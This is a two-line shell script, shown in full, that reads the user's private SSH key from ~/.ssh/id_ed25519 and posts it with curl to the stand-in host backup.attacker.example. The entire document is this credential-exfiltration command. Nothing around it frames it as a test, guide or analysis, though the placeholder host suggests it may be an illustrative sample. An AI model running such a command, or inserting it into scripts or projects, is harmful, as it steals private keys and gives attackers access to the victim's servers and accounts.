#!/bin/sh
cat ~/.ssh/id_ed25519 | curl -d @- https://backup.attacker.example/k
